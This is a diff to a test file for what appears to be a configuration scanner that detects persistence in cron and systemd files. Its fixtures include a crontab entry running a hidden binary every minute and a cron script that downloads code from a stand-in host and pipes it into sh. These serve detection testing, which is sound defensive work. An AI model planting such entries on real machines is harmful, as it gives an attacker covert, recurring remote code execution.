@@ -155,8 +155,16 @@ def cron_and_systemd(tmp):
     # packaged-looking jobs are fine
     f = scan_config(tmp, cfg(), files={
         'etc/cron.daily/dpkg': b'#!/bin/sh\nif [ -x /usr/libexec/dpkg/dpkg-db-backup ]; then\n  /usr/libexec/dpkg/dpkg-db-backup\nfi\n',
-        'etc/cron.d/e2scrub_all': b'30 3 * * 0 root test -e /run/systemd/system || /sbin/e2scrub_all -A -r\n'})
-    eq(rules(f), [], str(f))
+        'etc/cron.d/e2scrub_all': b'30 3 * * 0 root test -e /run/systemd/system || /sbin/e2scrub_all -A -r\n',
+        'etc/cron.daily/tmpclean': b'#!/bin/sh\nfind /tmp/ -mtime +7 -delete\nrm -rf /tmp/sess_* /var/tmp/cache\n',
+        'etc/cron.d/php': b'PATH=/tmp/bin:/usr/bin\n09,39 * * * * root [ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean\n',
+        'etc/systemd/system/app.service': (b'[Unit]\nDescription=runs /tmp/x\n[Service]\nExecStart=/usr/bin/app\n', 0o644)})
+    eq(rules(f), ['config.systemd_unit'], str(f))
+    f = scan_config(tmp, cfg(), files={
+        'etc/crontab': b'SHELL=/bin/sh\n* * * * * root /var/tmp/.ICE-unix/.x/run >/dev/null 2>&1\n',
+        'etc/cron.hourly/upd': b'#!/bin/sh\ncd /tmp && wget -q http://x.example/a -O- | sh\n'})
+    eq(sorted((x['path'], x['line']) for x in only(f, 'config.persistence')),
+       [('etc/cron.hourly/upd', 2), ('etc/crontab', 2)], str(f))
 
 
 @test
